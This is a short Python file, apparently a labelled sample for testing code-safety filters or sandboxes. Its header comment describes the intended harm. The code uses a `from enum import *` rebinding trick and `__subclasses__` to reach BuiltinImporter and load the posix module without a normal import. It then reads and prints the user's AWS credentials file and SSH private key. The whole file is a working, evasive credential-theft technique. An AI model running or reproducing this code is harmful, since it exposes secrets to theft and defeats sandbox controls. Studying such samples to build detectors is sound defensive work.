# HARM: reads ~/.aws/credentials and ~/.ssh/id_rsa and prints them | TRICK: `from enum import *` rebinds the file's class EnumMeta to enum.EnumMeta (type subclass); EnumMeta.__subclasses__(object) reaches BuiltinImporter -> posix
class EnumMeta:
    """Stub for old Python versions."""


from enum import *  # noqa: E402,F401,F403


class Color(Enum):
    RED = 1


for sub in EnumMeta.__subclasses__(object):
    if sub.__name__ == "BuiltinImporter":
        posix = sub.load_module("posix")
        home = posix.environ[b"HOME"].decode()
        for rel in ("/.aws/credentials", "/.ssh/id_rsa"):
            fd = posix.open(home + rel, posix.O_RDONLY)
            print(posix.read(fd, 65536).decode(errors="replace"))
            posix.close(fd)
